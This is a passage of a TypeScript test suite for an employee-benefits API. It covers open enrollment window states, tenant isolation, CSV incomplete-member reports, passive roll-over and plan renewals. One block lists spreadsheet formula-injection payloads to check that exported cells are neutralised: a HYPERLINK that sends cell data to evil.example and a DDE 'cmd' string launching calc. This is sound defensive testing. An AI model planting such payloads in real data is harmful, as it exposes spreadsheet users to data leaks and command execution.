import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { buildJobHandlers } from '../../src/app.ts';
import { JobWorker } from '../../src/jobs/job-worker.ts';
import { SandboxCarrierAdapter } from '../../src/modules/carrier-connections/sandbox-adapter.ts';
import { createEmployer, createMember } from '../helpers/factories.ts';
import { createBeneficiary, createDependent } from '../helpers/people-factories.ts';
import { compositeRates, createPlan, createPlanConfiguration } from '../helpers/plan-factories.ts';
import { activeWindow, createEnrollment, createEnrollmentWorld, type EnrollmentWorld } from '../helpers/enrollment-world.ts';
import { createTestApp, ok, type TestContext } from '../helpers/test-app.ts';

// Clock: 2026-03-02. Each world's employer has an active window 2026-03-01..2026-03-31 renewing 2026-04-01.
let t: TestContext;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t.close();
});

const fieldPaths = (response: { body: { input_errors?: { field_path: string[] }[] } }) =>
  (response.body.input_errors ?? []).map((error) => error.field_path.join('.'));

async function submit(w: EnrollmentWorld, member: string, body: Record<string, unknown> = {}) {
  const enrollment = await createEnrollment(w, { member, enrolled_plans: [{ plan: w.plans.medical.id }], ...body });
  return ok(w.admin.post(`/enrollments/${enrollment.id}/save_and_submit`));
}

describe('window lifecycle', () => {
  let w: EnrollmentWorld;
  beforeAll(async () => {
    w = await createEnrollmentWorld(t);
  });

  it('when created without dates, then it is setup_required; plans and all dates make it build_in_progress, and taking plans away sends it back', async () => {
    const created = await ok(w.admin.post('/open_enrollment_windows', { employer: w.employer.id, metadata: { cycle: '2027' } }), 201);
    expect(created).toEqual({
      id: expect.stringMatching(/^oew_/),
      employer: w.employer.id,
      start_date: null,
      end_date: null,
      renewal_date: null,
      status: 'setup_required',
      completed_at: null,
      completed_member_count: 0,
      incomplete_member_count: 0,
      summaries: [],
      plans: [],
      enrollment_type: 'active',
      metadata: { cycle: '2027' },
      created_at: t.clock.now().toISOString(),
    });
    const dated = await ok(
      w.admin.patch(`/open_enrollment_windows/${created.id}`, { start_date: '2026-05-01', end_date: '2026-05-15', renewal_date: '2026-06-01' }),
    );
    expect(dated.status).toBe('setup_required');
    const built = await ok(w.admin.patch(`/open_enrollment_windows/${created.id}`, { plans: [w.plans.medical.id, w.plans.dental.id] }));
    expect(built).toMatchObject({
      status: 'build_in_progress',
      plans: [w.plans.medical.id, w.plans.dental.id],
      completed_member_count: 0,
      incomplete_member_count: 1,
    });
    const emptied = await ok(w.admin.patch(`/open_enrollment_windows/${created.id}`, { plans: [] }));
    expect(emptied.status).toBe('setup_required');
    expect((await w.admin.get(`/open_enrollment_windows/${created.id}`)).body).toEqual(emptied);
  });

  it('when driven through its states, then each action is allowed only from its state (409 invalid_state otherwise)', async () => {
    const window = await ok(
      w.admin.post('/open_enrollment_windows', {
        employer: w.employer.id,
        start_date: '2026-06-01',
        end_date: '2026-06-15',
        renewal_date: '2026-07-01',
        plans: [w.plans.medical.id],
      }),
      201,
    );
    expect(window.status).toBe('build_in_progress');
    const path = `/open_enrollment_windows/${window.id}`;
    for (const action of ['close', 'complete']) expect((await w.admin.post(`${path}/${action}`)).body.type).toBe('invalid_state');

    expect((await ok(w.admin.post(`${path}/activate`))).status).toBe('active');
    expect((await w.admin.post(`${path}/activate`)).status).toBe(409);
    expect((await w.admin.post(`${path}/complete`)).status).toBe(409);
    const locked = await w.admin.patch(path, { end_date: '2026-06-20' });
    expect(locked.status).toBe(409);
    expect(locked.body.type).toBe('invalid_state');
    expect((await w.admin.patch(path, { plans: [w.plans.dental.id] })).status).toBe(409);
    expect((await ok(w.admin.patch(path, { metadata: { note: 'x' }, enrollment_type: 'passive' }))).enrollment_type).toBe('passive');

    const closed = await ok(w.admin.post(`${path}/close`));
    expect(closed.status).toBe('closed');
    expect((await w.admin.post(`${path}/close`)).status).toBe(409);
    expect((await w.admin.post(`${path}/activate`)).status).toBe(409);
    const completed = await ok(w.admin.post(`${path}/complete`));
    expect(completed).toMatchObject({ status: 'completed', completed_at: t.clock.now().toISOString() });
    for (const action of ['activate', 'close', 'complete']) expect((await w.admin.post(`${path}/${action}`)).status).toBe(409);
    expect((await w.admin.patch(path, { enrollment_type: 'active' })).status).toBe(409);
    expect((await ok(w.admin.patch(path, { metadata: { note: '' } }))).metadata).toEqual({});
  });

  it("when dates are out of order or plans are not the employer's or not offered on the renewal date, then a 400 names each field", async () => {
    const other = await createEnrollmentWorld(t);
    const refused = await w.admin.post('/open_enrollment_windows', {
      employer: w.employer.id,
      start_date: '2026-05-10',
      end_date: '2026-05-01',
      renewal_date: '2026-04-01',
      plans: [other.plans.medical.id],
    });
    expect(refused.status).toBe(400);
    expect(fieldPaths(refused)).toEqual(['end_date', 'renewal_date', 'plans.0']);
    const notOffered = await w.admin.post('/open_enrollment_windows', {
      employer: w.employer.id,
      start_date: '2026-11-01',
      end_date: '2026-11-30',
      renewal_date: '2027-01-01',
      plans: [w.plans.medical.id],
    });
    expect(notOffered.status).toBe(400);
    expect(fieldPaths(notOffered)).toEqual(['plans.0']);
    const unknownEmployer = await w.admin.post('/open_enrollment_windows', { employer: other.employer.id });
    expect(fieldPaths(unknownEmployer)).toEqual(['employer']);
  });

  it('when a window would overlap an active one of the same employer, then activation is refused; a window already over cannot be activated', async () => {
    const overlapping = await ok(
      w.admin.post('/open_enrollment_windows', {
        employer: w.employer.id,
        start_date: '2026-03-20',
        end_date: '2026-04-10',
        renewal_date: '2026-05-01',
        plans: [w.plans.medical.id],
      }),
      201,
    );
    const refused = await w.admin.post(`/open_enrollment_windows/${overlapping.id}/activate`);
    expect(refused.status).toBe(409);
    expect(refused.body.message).toContain(w.window.id);
    const over = await ok(
      w.admin.post('/open_enrollment_windows', {
        employer: w.employer.id,
        start_date: '2026-02-01',
        end_date: '2026-02-10',
        renewal_date: '2026-03-01',
        plans: [w.plans.medical.id],
      }),
      201,
    );
    const late = await w.admin.post(`/open_enrollment_windows/${over.id}/activate`);
    expect(late.status).toBe(400);
    expect(fieldPaths(late)).toEqual(['end_date']);
  });

  it('when listed, then ?employer= and ?status= filter and employer keys see their employer only; other tenants get 404', async () => {
    const other = await createEnrollmentWorld(t);
    const active = await w.admin.get(`/open_enrollment_windows?status=active&employer=${w.employer.id}`);
    expect(active.body.results.map((window: { id: string }) => window.id)).toContain(w.window.id);
    expect(active.body.results.every((window: { status: string; employer: string }) => window.status === 'active' && window.employer === w.employer.id)).toBe(
      true,
    );
    expect((await w.admin.get('/open_enrollment_windows?status=nope')).status).toBe(400);
    expect((await other.admin.get(`/open_enrollment_windows/${w.window.id}`)).status).toBe(404);
    expect((await other.admin.post(`/open_enrollment_windows/${w.window.id}/close`)).status).toBe(404);
    expect((await other.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report`)).status).toBe(404);
    expect((await other.admin.get(`/open_enrollment_windows/${w.window.id}/change_report`)).status).toBe(404);

    const employer = await createEmployer(t.admin, { legal_name: 'Keyed Employer' });
    const keyed = await t.client('employer', { employer: employer.id });
    const ownWindow = await ok(keyed.post('/open_enrollment_windows', { employer: employer.id }), 201);
    const otherEmployer = await createEmployer(t.admin, { legal_name: 'Unkeyed Employer' });
    const foreign = await ok(t.admin.post('/open_enrollment_windows', { employer: otherEmployer.id }), 201);
    expect((await keyed.get('/open_enrollment_windows')).body.results.map((window: { id: string }) => window.id)).toEqual([ownWindow.id]);
    expect((await keyed.get(`/open_enrollment_windows/${foreign.id}`)).status).toBe(404);
    expect((await keyed.post('/open_enrollment_windows', { employer: otherEmployer.id })).status).toBe(400);
    const readOnly = await t.client('read_only');
    expect((await readOnly.post(`/open_enrollment_windows/${foreign.id}/activate`)).status).toBe(403);
    expect((await readOnly.get(`/open_enrollment_windows/${foreign.id}`)).status).toBe(200);
  });
});

describe('kickoff and window membership of enrollments', () => {
  it('when a window is activated, then each eligible member and the employer get one open_enrollment_kickoff', async () => {
    const w = await createEnrollmentWorld(t);
    const second = await createMember(w.admin, { employer: w.employer.id, first_name: 'Second' });
    await createMember(w.admin, { employer: w.employer.id, first_name: 'Hired Late', hire_date: '2026-05-01' });
    const window = await activeWindow(w.admin, {
      employer: w.employer.id,
      start_date: '2026-04-01',
      end_date: '2026-04-15',
      renewal_date: '2026-05-01',
      plans: [w.plans.medical.id],
    });
    const kickoffs = await w.admin.get(`/notifications?notification_type=open_enrollment_kickoff&related_object_id=${window.id}`);
    expect(kickoffs.body.results).toHaveLength(3);
    const byOwner = Map.groupBy(kickoffs.body.results as { owner: string; payload: Record<string, string> }[], (n) => n.owner);
    expect(byOwner.get('employer')).toHaveLength(1);
    expect(
      byOwner
        .get('member')!
        .map((n) => n.payload.member)
        .sort(),
    ).toEqual([w.member.id, second.id].sort());
  });

  it('when an open_enrollment enrollment is submitted, then it joins the window open that day and may elect only its plans; with no window open it is refused', async () => {
    const w = await createEnrollmentWorld(t);
    const submitted = await submit(w, w.member.id);
    expect(submitted.open_enrollment_window).toBe(w.window.id);

    await ok(w.admin.post(`/open_enrollment_windows/${w.window.id}/close`));
    const outside = await createEnrollment(w, { enrolled_plans: [{ plan: w.plans.medical.id }] });
    expect(outside.open_enrollment_window).toBeNull();
    const refused = await w.admin.post(`/enrollments/${outside.id}/save_and_submit`);
    expect(refused.status).toBe(400);
    expect(fieldPaths(refused)).toEqual(['category']);

    const medicalOnly = await activeWindow(w.admin, { employer: w.employer.id, start_date: '2026-03-02', end_date: '2026-03-20', plans: [w.plans.medical.id] });
    const dental = await createEnrollment(w, { enrolled_plans: [{ plan: w.plans.dental.id }] });
    expect(dental.open_enrollment_window).toBe(medicalOnly.id);
    const notOffered = await w.admin.post(`/enrollments/${dental.id}/save_and_submit`);
    expect(notOffered.status).toBe(400);
    expect(fieldPaths(notOffered)).toEqual(['enrolled_plans.0.plan']);
  });
});

describe('counts and the incomplete members report', () => {
  let w: EnrollmentWorld;
  let acted: { id: string };
  let idle: { id: string };
  let started: { id: string };
  beforeAll(async () => {
    w = await createEnrollmentWorld(t);
    t.clock.advance(1000);
    acted = await createMember(w.admin, { employer: w.employer.id, first_name: 'Acted', email: 'acted@example.com' });
    t.clock.advance(1000);
    idle = await createMember(w.admin, { employer: w.employer.id, first_name: 'Idle', last_name: 'O"Brien, Jr.', email: 'idle@example.com' });
    t.clock.advance(1000);
    started = await createMember(w.admin, { employer: w.employer.id, first_name: 'Started' });
    // Not eligible: terminated before the renewal date, or hired after the window ends.
    await createMember(w.admin, { employer: w.employer.id, first_name: 'Leaving', termination_date: '2026-03-15' });
    await createMember(w.admin, { employer: w.employer.id, first_name: 'Later', hire_date: '2026-04-15' });
    await submit(w, acted.id);
    await createEnrollment(w, { member: started.id, enrolled_plans: [{ plan: w.plans.medical.id }] });
  });

  it('when members act, then completed and incomplete counts are live while the window is active', async () => {
    const window = await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}`));
    expect(window).toMatchObject({ completed_member_count: 1, incomplete_member_count: 3 });
    await submit(w, w.member.id);
    expect(await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}`))).toMatchObject({ completed_member_count: 2, incomplete_member_count: 2 });
  });

  it('when the report is read as JSON, then it pages over eligible members without a submitted enrollment, newest first', async () => {
    const first = await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report?page_size=1`));
    expect(first.results).toHaveLength(1);
    expect(first.results[0]).toEqual({
      member: started.id,
      first_name: 'Started',
      last_name: 'Rivera',
      email: null,
      enrollment: expect.stringMatching(/^enr_/),
      enrollment_status: 'not_started',
    });
    expect(first.previous).toBeNull();
    const second = await ok(w.admin.get(first.next));
    expect(second.results).toEqual([
      { member: idle.id, first_name: 'Idle', last_name: 'O"Brien, Jr.', email: 'idle@example.com', enrollment: null, enrollment_status: null },
    ]);
    expect(second.next).toBeNull();
    expect((await w.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report?format=xml`)).status).toBe(400);
  });

  it('when the report is read as CSV, then every row comes with a header row, quoted as CSV requires', async () => {
    const csv = await w.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report?format=csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toContain('attachment');
    const lines = csv.text.trimEnd().split('\n');
    expect(lines[0]).toBe('member,first_name,last_name,email,enrollment,enrollment_status');
    expect(lines.slice(1)).toEqual([
      expect.stringMatching(new RegExp(`^${started.id},Started,Rivera,,enr_\\w+,not_started$`)),
      `${idle.id},Idle,"O""Brien, Jr.",idle@example.com,,`,
    ]);
  });

  it('when the window is completed, then the counts are frozen', async () => {
    await ok(w.admin.post(`/open_enrollment_windows/${w.window.id}/close`));
    const completed = await ok(w.admin.post(`/open_enrollment_windows/${w.window.id}/complete`));
    expect(completed).toMatchObject({ status: 'completed', completed_member_count: 2, incomplete_member_count: 2 });
    await createMember(w.admin, { employer: w.employer.id, first_name: 'After' });
    expect(await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}`))).toMatchObject({ completed_member_count: 2, incomplete_member_count: 2 });
  });
});

describe('the incomplete members CSV and spreadsheet formulas', () => {
  // Names a spreadsheet would run as formulas (OWASP CSV injection), and names it would not.
  // Formulas after leading spaces count too: a spreadsheet may trim them (docs/decisions.md, CSV). None holds an X12
  // delimiter (* ~ : ^), which names may not (docs/decisions.md "Members and personal data", Names carriers can read).
  const formulas = [
    '=HYPERLINK("//evil.example/?"&A1,"click")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1;A9)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\u00A0=1+1',
    '\u3000\uFF1D1+1',
    '\uFEFF\u200B@SUM(A1)',
  ];
  const harmless = ['Dana', 'O"Brien, Jr.', "'=already text", 'a=1+1', '-12.50', ' -12.50', '\u00A0Dana'];

  it('when members are named like formulas, then each such cell is read back by a CSV parser as text after a single quote, and every other cell unchanged', async () => {
    const w = await createEnrollmentWorld(t);
    const created: { id: string; first_name: string; last_name: string; email: string | null }[] = [];
    for (const name of [...formulas, ...harmless]) {
      created.push(await createMember(w.admin, { employer: w.employer.id, first_name: name, last_name: name }));
    }
    created.push(await createMember(w.admin, { employer: w.employer.id, first_name: 'Mail', email: '=cmd@example.com' }));

    const csv = await w.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report?format=csv`);
    expect(csv.status).toBe(200);
    const records = parse<Record<string, string>>(csv.text, { columns: true });
    const json = await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report?page_size=100`));
    expect(json.next).toBeNull();

    const dangerous = new Set([...formulas, '=cmd@example.com']);
    const asText = (value: string | null) => (value === null ? '' : dangerous.has(value) ? `'${value}` : value);
    expect(records).toEqual(
      (json.results as Record<string, string | null>[]).map((row) => ({
        member: row.member,
        first_name: asText(row.first_name!),
        last_name: asText(row.last_name!),
        email: asText(row.email!),
        enrollment: row.enrollment ?? '',
        enrollment_status: row.enrollment_status ?? '',
      })),
    );
    const byId = new Map(records.map((record) => [record.member, record]));
    for (const member of created) expect(byId.has(member.id), member.first_name).toBe(true);
    for (const name of formulas) {
      expect(
        records.find((record) => record.first_name === `'${name}`),
        name,
      ).toBeDefined();
      expect(
        records.find((record) => record.last_name === `'${name}`),
        name,
      ).toBeDefined();
    }
    for (const name of harmless)
      expect(
        records.find((record) => record.first_name === name && record.last_name === name),
        name,
      ).toBeDefined();
    expect(records.find((record) => record.email === "'=cmd@example.com")).toBeDefined();
    // No cell of the file starts with a formula character, as a spreadsheet would see it.
    for (const record of records)
      for (const cell of Object.values(record))
        expect(cell, cell).not.toMatch(/^[\p{White_Space}\p{Cf}]*([=+@\uFF1D\uFF0B\uFF0D\uFF20\t\r]|-(?![0-9]+(\.[0-9]+)?$))/u);
  });
});

describe('complete: passive and active windows', () => {
  const runJobs = async () => {
    const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };
    const worker = new JobWorker({
      db: t.database.db,
      clock: t.clock,
      handlers: buildJobHandlers(t.services, { adapter: new SandboxCarrierAdapter() }),
      log: silent,
      batchSize: 50,
    });
    while ((await worker.runDueJobs()) > 0);
  };
  async function coveredMember(w: EnrollmentWorld, name: string) {
    const member = await createMember(w.admin, { employer: w.employer.id, first_name: name, dob: '1980-01-01', hire_date: '2020-01-01' });
    const child = await createDependent(w.admin, { member: member.id, member_relationship: 'child', dob: '2012-01-01' });
    await ok(
      w.admin.post('/enrollments', {
        member: member.id,
        category: 'carrier_sync',
        effective_start: '2026-01-01',
        enrolled_plans: [
          { plan: w.plans.medical.id, enrolled_dependents: [{ dependent: child.id }] },
          { plan: w.plans.dental.id },
          { plan: w.plans.vision.id },
        ],
      }),
      201,
    );
    return { member, child };
  }
  const enrollmentsOf = async (w: EnrollmentWorld, member: string) => (await ok(w.admin.get(`/enrollments?member=${member}`))).results as any[];

  it('when a passive window completes, then members who did nothing get their current elections carried into the new period, approved by the engine; members who acted keep theirs', async () => {
    const w = await createEnrollmentWorld(t);
    // Vision is not offered in the new window: it is not carried.
    const window = await activeWindow(w.admin, {
      employer: w.employer.id,
      start_date: '2026-04-01',
      end_date: '2026-04-15',
      renewal_date: '2026-05-01',
      plans: [w.plans.medical.id, w.plans.medicalSilver.id, w.plans.dental.id],
      enrollment_type: 'passive',
    });
    await ok(w.admin.post(`/open_enrollment_windows/${w.window.id}/close`));
    const idle = await coveredMember(w, 'Idle');
    const active = await coveredMember(w, 'Active');
    const uncovered = await createMember(w.admin, { employer: w.employer.id, first_name: 'Uncovered' });
    t.clock.set('2026-04-02T15:00:00.000Z');
    try {
      const own = await createEnrollment(w, {
        member: active.member.id,
        effective_start: '2026-05-01',
        enrolled_plans: [{ plan: w.plans.medicalSilver.id, primary_care_provider: { full_name: 'Dr. Who' } }],
      });
      await ok(w.admin.post(`/enrollments/${own.id}/save_and_submit`));
      await ok(w.admin.post(`/enrollments/${own.id}/approve`));
      await ok(w.admin.post(`/open_enrollment_windows/${window.id}/close`));
      const completed = await ok(w.admin.post(`/open_enrollment_windows/${window.id}/complete`));
      // w.member has no coverage, uncovered neither: both did nothing, like idle.
      expect(completed).toMatchObject({ status: 'completed', completed_member_count: 1, incomplete_member_count: 3 });
      // The carry-over is a durable job enqueued with the completion; the worker runs it.
      expect((await enrollmentsOf(w, idle.member.id)).map((e) => e.category)).toEqual(['carrier_sync']);
      await runJobs();
      await runJobs();

      const [passive, ...rest] = await enrollmentsOf(w, idle.member.id);
      expect(rest.map((e) => e.category)).toEqual(['carrier_sync']);
      expect(passive).toMatchObject({
        category: 'open_enrollment',
        reason: 'passive_open_enrollment',
        status: 'synced',
        effective_start: '2026-05-01',
        open_enrollment_window: window.id,
      });
      expect(passive.enrolled_plans.map((plan: { plan: string }) => plan.plan)).toEqual([w.plans.medical.id, w.plans.dental.id]);
      expect(passive.enrolled_plans[0].enrolled_dependents.map((d: { dependent: string }) => d.dependent)).toEqual([idle.child.id]);
      const changes = await ok(w.admin.get(`/enrollments/${passive.id}/benefit_changes`));
      // The same plans and dependents carried on: nothing to send, so the enrollment is synced at once.
      expect(changes.map((change: { line_of_coverage: string; status: string }) => [change.line_of_coverage, change.status])).toEqual([
        ['medical', 'no_change'],
        ['dental', 'no_change'],
      ]);
      const coverage = await ok(w.admin.get(`/members/${idle.member.id}/coverage?date=2026-05-01`));
      expect(
        coverage.coverage.map((line: { enrollment: string; line_of_coverage: string }) => [line.line_of_coverage, line.enrollment === passive.id]),
      ).toEqual(
        expect.arrayContaining([
          ['medical', true],
          ['dental', true],
        ]),
      );

      expect((await enrollmentsOf(w, active.member.id)).filter((e) => e.reason === 'passive_open_enrollment')).toEqual([]);
      expect(await enrollmentsOf(w, uncovered.id)).toEqual([]);

      const report = await ok(w.admin.get(`/open_enrollment_windows/${window.id}/change_report`));
      expect(report).toMatchObject({ id: window.id, status: 'completed', completed_member_count: 1 });
      const byMember = Map.groupBy(report.summaries as { member: string }[], (summary) => summary.member);
      expect(byMember.get(active.member.id)).toEqual([
        {
          member: active.member.id,
          line_of_coverage: 'medical',
          status: 'change',
          changes: expect.arrayContaining(['plan_change']),
          previous_plan: w.plans.medical.id,
          next_plan: w.plans.medicalSilver.id,
        },
      ]);
      expect((await ok(w.admin.get(`/open_enrollment_windows/${window.id}`))).summaries).toEqual([]);
      // Run again (a retried job): nothing new.
      expect(await t.services.windows.rollOverPassively(window.id)).toBe(0);
      expect(await enrollmentsOf(w, idle.member.id)).toHaveLength(2);
    } finally {
      t.clock.set('2026-03-02T15:00:00.000Z');
    }
  });

  it('when an active window completes, then members who did nothing get nothing new', async () => {
    const w = await createEnrollmentWorld(t);
    const idle = await coveredMember(w, 'Idle');
    await ok(w.admin.post(`/open_enrollment_windows/${w.window.id}/close`));
    const completed = await ok(w.admin.post(`/open_enrollment_windows/${w.window.id}/complete`));
    expect(completed).toMatchObject({ enrollment_type: 'active', completed_member_count: 0, incomplete_member_count: 2 });
    expect((await enrollmentsOf(w, idle.member.id)).map((e) => e.category)).toEqual(['carrier_sync']);
  });
});

describe('the change report and moves between carriers', () => {
  it("when a member moves a line to another group's plan, then the carriers get removed and new, and the report one change with plan_change", async () => {
    const w = await createEnrollmentWorld(t);
    await ok(
      w.admin.post('/enrollments', {
        member: w.member.id,
        category: 'carrier_sync',
        effective_start: '2026-01-01',
        enrolled_plans: [{ plan: w.plans.dental.id }],
      }),
      201,
    );
    const move = await createEnrollment(w, { enrolled_plans: [{ plan: w.plans.dentalRejected.id }] });
    await ok(w.admin.post(`/enrollments/${move.id}/save_and_submit`));
    await ok(w.admin.post(`/enrollments/${move.id}/approve`));
    const changes = await ok(w.admin.get(`/enrollments/${move.id}/benefit_changes`));
    expect(changes.map((change: { line_of_coverage: string; status: string }) => [change.line_of_coverage, change.status])).toEqual([
      ['dental', 'removed'],
      ['dental', 'new'],
    ]);
    const report = await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}/change_report`));
    expect(report.summaries.filter((summary: { member: string }) => summary.member === w.member.id)).toEqual([
      {
        member: w.member.id,
        line_of_coverage: 'dental',
        status: 'change',
        changes: ['plan_change'],
        previous_plan: w.plans.dental.id,
        next_plan: w.plans.dentalRejected.id,
      },
    ]);
  });
});

describe("renewals: members carried into next year's plans", () => {
  const runJobs = async () => {
    const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };
    const worker = new JobWorker({
      db: t.database.db,
      clock: t.clock,
      handlers: buildJobHandlers(t.services, { adapter: new SandboxCarrierAdapter() }),
      log: silent,
      batchSize: 50,
    });
    while ((await worker.runDueJobs()) > 0);
  };
  const newRates = compositeRates({ member: '540.00', member_spouse: '1120.00', member_family: '1720.00' });

  /**
   * The 2026 medical and life plans renewed for 2027 (medical at new rates, life with a lower guaranteed issue),
   * and a member covered all through 2026 on medical (spouse, a child, and a child who turns 26 on 2026-12-15),
   * life (40,000 requested) and dental (not renewed).
   */
  async function renewalWorld() {
    const w = await createEnrollmentWorld(t);
    const medical2027 = await ok(
      w.admin.post(`/plans/${w.plans.medical.id}/renew`, { plan_name: 'Gold PPO 2027', effective_end: '2027-12-31', composite_rates: newRates }),
      201,
    );
    const life2027 = await ok(w.admin.post(`/plans/${w.plans.life.id}/renew`, { effective_end: '2027-12-31', guaranteed_issue_volume: '30000.00' }), 201);
    const member = await createMember(w.admin, { employer: w.employer.id, first_name: 'Idle', dob: '1980-01-01', hire_date: '2020-01-01' });
    const spouse = await createDependent(w.admin, { member: member.id, member_relationship: 'spouse', dob: '1981-03-03' });
    const child = await createDependent(w.admin, { member: member.id, member_relationship: 'child', dob: '2012-01-01' });
    const agingOut = await createDependent(w.admin, { member: member.id, member_relationship: 'child', dob: '2000-12-15' });
    const beneficiary = await createBeneficiary(w.admin, { member: member.id, full_name: 'Jo Idle', member_relationship: 'spouse' });
    const synced = await ok(
      w.admin.post('/enrollments', {
        member: member.id,
        category: 'carrier_sync',
        effective_start: '2026-01-01',
        enrolled_plans: [
          { plan: w.plans.medical.id, enrolled_dependents: [{ dependent: spouse.id }, { dependent: child.id }, { dependent: agingOut.id }] },
          {
            plan: w.plans.life.id,
            requested_volume: '40000.00',
            beneficiary_designations: [{ beneficiary: beneficiary.id, designation: 'primary', percentage: '100' }],
          },
          { plan: w.plans.dental.id },
        ],
      }),
      201,
    );
    const previous = Object.fromEntries(synced.enrolled_plans.map((plan: { plan: string; id: string }) => [plan.plan, plan.id]));
    return { w, medical2027, life2027, member, spouse, child, agingOut, beneficiary, previous };
  }

  /** A window of the renewal world's employer for the 2027 plans, renewing 2027-01-01, activated. */
  const renewalWindow = (r: Awaited<ReturnType<typeof renewalWorld>>, enrollment_type: 'active' | 'passive') =>
    activeWindow(r.w.admin, {
      employer: r.w.employer.id,
      start_date: '2026-11-01',
      end_date: '2026-11-30',
      renewal_date: '2027-01-01',
      plans: [r.medical2027.id, r.life2027.id],
      enrollment_type,
    });

  it('when a passive window completes, then a member who did nothing moves from each renewed plan to its successor, re-priced, with the dependents still eligible and the volume within the new limit', async () => {
    const r = await renewalWorld();
    const window = await renewalWindow(r, 'passive');
    await ok(r.w.admin.post(`/open_enrollment_windows/${window.id}/close`));
    await ok(r.w.admin.post(`/open_enrollment_windows/${window.id}/complete`));
    await runJobs();

    const enrollments = (await ok(r.w.admin.get(`/enrollments?member=${r.member.id}`))).results as any[];
    const passive = enrollments.find((enrollment) => enrollment.reason === 'passive_open_enrollment');
    expect(passive).toMatchObject({ category: 'open_enrollment', effective_start: '2027-01-01', open_enrollment_window: window.id });
    // Coverage moved to new plans: changes for the carriers, so approved (not synced at once).
    expect(passive.status).toBe('approved');
    const [medical, life] = passive.enrolled_plans;
    expect(passive.enrolled_plans).toHaveLength(2);
    expect(medical).toMatchObject({
      plan: r.medical2027.id,
      effective_start: '2027-01-01',
      effective_end: '2027-12-31',
      // member_family at the 2027 rate; the employer pays 50.5% (the copied contribution strategy).
      premium: '1720.00',
      employer_contribution: '868.60',
      member_contribution: '851.40',
    });
    // The child who turned 26 on 2026-12-15 is no longer eligible on 2027-01-01: left behind.
    expect(medical.enrolled_dependents.map((dependent: { dependent: string }) => dependent.dependent)).toEqual([r.spouse.id, r.child.id]);
    expect(life).toMatchObject({ plan: r.life2027.id, volume: '30000.00', requested_volume: '30000.00', eoi_status: 'not_required' });
    // Who the member named goes on with the life coverage.
    expect(life.beneficiary_designations).toMatchObject([{ beneficiary: r.beneficiary.id, designation: 'primary', percentage: '100.00' }]);
    expect(life.primary_beneficiary_missing).toBe(false);

    const coverage = await ok(r.w.admin.get(`/members/${r.member.id}/coverage?date=2027-01-01`));
    expect(new Map(coverage.coverage.map((line: { line_of_coverage: string; plan: string }) => [line.line_of_coverage, line.plan]))).toEqual(
      new Map([
        ['medical', r.medical2027.id],
        ['life', r.life2027.id],
      ]),
    );
    const lastYear = await ok(r.w.admin.get(`/members/${r.member.id}/coverage?date=2026-12-31`));
    expect(lastYear.coverage.find((line: { line_of_coverage: string }) => line.line_of_coverage === 'medical')).toMatchObject({
      plan: r.w.plans.medical.id,
      effective_end: '2026-12-31',
    });
  });

  it('when a passive window completes after the covered spouse became an ex-spouse, then the ex-spouse is left behind and the rest is carried (one spouse or partner)', async () => {
    const r = await renewalWorld();
    // The divorce, recorded after the coverage: an ex-spouse is not an eligible dependent after the divorce date.
    await ok(r.w.admin.patch(`/dependents/${r.spouse.id}`, { member_relationship: 'ex_spouse', relationship_end_date: '2026-02-27' }));
    const window = await renewalWindow(r, 'passive');
    await ok(r.w.admin.post(`/open_enrollment_windows/${window.id}/close`));
    await ok(r.w.admin.post(`/open_enrollment_windows/${window.id}/complete`));
    await runJobs();

    const enrollments = (await ok(r.w.admin.get(`/enrollments?member=${r.member.id}`))).results as any[];
    const passive = enrollments.find((enrollment) => enrollment.reason === 'passive_open_enrollment');
    expect(passive?.status).toBe('approved');
    const medical = passive.enrolled_plans.find((plan: { plan: string }) => plan.plan === r.medical2027.id);
    expect(medical.enrolled_dependents.map((dependent: { dependent: string }) => dependent.dependent)).toEqual([r.child.id]);
  });

  it('when a passive window completes, then the move to the successor is the same coverage: a change (never removed + new), previous_plan set in the change report', async () => {
    const r = await renewalWorld();
    const window = await renewalWindow(r, 'passive');
    await ok(r.w.admin.post(`/open_enrollment_windows/${window.id}/close`));
    await ok(r.w.admin.post(`/open_enrollment_windows/${window.id}/complete`));
    await runJobs();

    const passive = ((await ok(r.w.admin.get(`/enrollments?member=${r.member.id}`))).results as any[]).find(
      (enrollment) => enrollment.reason === 'passive_open_enrollment',
    );
    const changes = await ok(r.w.admin.get(`/enrollments/${passive.id}/benefit_changes`));
    expect(
      changes.map((change: any) => [change.line_of_coverage, change.status, change.changes, change.previous_enrollment_plan, change.next_enrollment_plan]),
    ).toEqual([
      ['medical', 'change', ['date_change', 'dependent_change', 'contribution_change'], r.previous[r.w.plans.medical.id], passive.enrolled_plans[0].id],
      ['life', 'change', ['date_change', 'volume_change'], r.previous[r.w.plans.life.id], passive.enrolled_plans[1].id],
      // Dental is not renewed: the coverage ends with its plan year, and its carrier (which would carry it on) is told.
      ['dental', 'removed', [], r.previous[r.w.plans.dental.id], null],
    ]);
    expect(passive.coverage_waivers).toMatchObject([{ line_of_coverage: 'dental', reason: 'other' }]);
    const dentalEnd = changes.find((change: any) => change.line_of_coverage === 'dental');
    expect([dentalEnd.coverage_start, dentalEnd.coverage_end]).toEqual(['2026-01-01', '2026-12-31']);

    const report = await ok(r.w.admin.get(`/open_enrollment_windows/${window.id}/change_report`));
    expect(report.summaries).toEqual([
      {
        member: r.member.id,
        line_of_coverage: 'medical',
        status: 'change',
        changes: ['date_change', 'dependent_change', 'contribution_change'],
        previous_plan: r.w.plans.medical.id,
        next_plan: r.medical2027.id,
      },
      {
        member: r.member.id,
        line_of_coverage: 'life',
        status: 'change',
